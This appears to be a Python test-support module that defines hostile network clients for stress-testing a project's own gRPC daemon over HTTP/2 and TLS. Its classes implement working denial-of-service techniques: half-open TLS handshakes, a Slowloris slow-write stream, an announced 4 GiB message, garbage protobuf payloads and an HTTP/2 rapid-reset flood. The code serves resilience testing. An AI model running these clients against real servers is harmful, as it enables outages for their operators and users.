"""Clients that mean harm. Each does one thing, a step at a time, on one connection at a time."""

from __future__ import annotations

import contextlib
import socket
import ssl
from collections.abc import Callable, Iterator
from typing import Final, Protocol

from hyperframe.frame import DataFrame, HeadersFrame, RstStreamFrame

from otahsm.client import ClientTls

from support.attacks.raw_http2 import ISSUE, STREAM, RawConnection, connect, context_of, in_message

GARBAGE: Final = in_message(b"\xff" * 1024)
GIANT: Final = in_message(bytes(16384), announced=2**32 - 1)
RESETS_A_STEP: Final = 10


class Attacker(Protocol):
    """Something that can go on and on."""

    def step(self) -> None:
        """Do it once more."""

    def close(self) -> None:
        """Go away."""


class HalfOpenTls:
    """Says hello, and never finishes the handshake; comes back when it is sent away."""

    def __init__(self, address: str, tls: ClientTls) -> None:
        self._address = address
        self._hello = client_hello(context_of(tls))
        self._socket: socket.socket | None = None

    def step(self) -> None:
        """Open a connection, unless the last one still is."""
        if self._socket is not None and is_open(self._socket):
            return
        self.close()
        self._socket = connect(self._address)
        self._socket.sendall(self._hello)

    def close(self) -> None:
        """Go away."""
        if self._socket is not None:
            self._socket.close()


class _OnAConnection:
    """Makes a connection when there is none."""

    def __init__(self, address: str, tls: ClientTls) -> None:
        self._address = address
        self._context = context_of(tls)
        self._connection: RawConnection | None = None

    def step(self) -> None:
        """Attack, on a new connection if the last one was closed."""
        try:
            if self._connection is None:
                self._connection = RawConnection(self._address, self._context)
                self.begin(self._connection)
            self.attack(self._connection)
        except (OSError, StopIteration):
            self.close()

    def begin(self, connection: RawConnection) -> None:
        """Prepare a new connection."""

    def attack(self, connection: RawConnection) -> None:
        """Do it once."""
        raise NotImplementedError

    def close(self) -> None:
        """Go away."""
        if self._connection is not None:
            self._connection.socket.close()
            self._connection = None


class Slowloris(_OnAConnection):
    """Opens a stream, and writes a message that never ends, an octet a step."""

    _stream = 0

    def begin(self, connection: RawConnection) -> None:
        headers = connection.headers(STREAM)
        self._stream = headers.stream_id
        connection.send(headers, DataFrame(self._stream, in_message(b"", announced=1024 * 1024)))

    def attack(self, connection: RawConnection) -> None:
        connection.write(self._stream, b"\n")


class GiantMessages(_OnAConnection):
    """Announces 4 GiB, and begins to send them."""

    def attack(self, connection: RawConnection) -> None:
        stream = connection.call(STREAM, GIANT, end=False)
        answer_on(connection, stream)


class GarbageProtobuf(_OnAConnection):
    """Sends octets that are no message."""

    def attack(self, connection: RawConnection) -> None:
        stream = connection.call(ISSUE, GARBAGE)
        answer_on(connection, stream)


class ResetFlood(_OnAConnection):
    """Opens calls and cancels them in the same breath."""

    def attack(self, connection: RawConnection) -> None:
        connection.send(*opened_and_reset(connection, RESETS_A_STEP))
        drain(connection)


NAMED: Final[tuple[Callable[[str, ClientTls], Attacker], ...]] = (
    HalfOpenTls,
    Slowloris,
    GiantMessages,
    GarbageProtobuf,
    ResetFlood,
)


def client_hello(context: ssl.SSLContext) -> bytes:
    """Return the first flight of a handshake."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(into, out).do_handshake()
    return out.read()


def is_open(connection: socket.socket) -> bool:
    """Return whether the other side has not closed a connection; what it has sent is thrown away."""
    connection.settimeout(0)
    try:
        while connection.recv(65536):
            pass
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


def opened_and_reset(connection: RawConnection, count: int) -> Iterator[HeadersFrame | RstStreamFrame]:
    """Make the frames that open and cancel so many calls."""
    for _ in range(count):
        headers = connection.headers(STREAM)
        yield headers
        yield connection.reset(headers.stream_id)


def answer_on(connection: RawConnection, stream: int) -> None:
    """Wait for the end of a call, or of the connection."""
    for frame in connection.frames():
        if frame.stream_id == stream and (isinstance(frame, RstStreamFrame) or "END_STREAM" in frame.flags):
            return
    raise ConnectionError("the daemon has closed the connection")


def drain(connection: RawConnection) -> None:
    """Read what there is."""
    with contextlib.suppress(TimeoutError, ssl.SSLWantReadError):
        for _ in connection.frames(0.001):
            pass
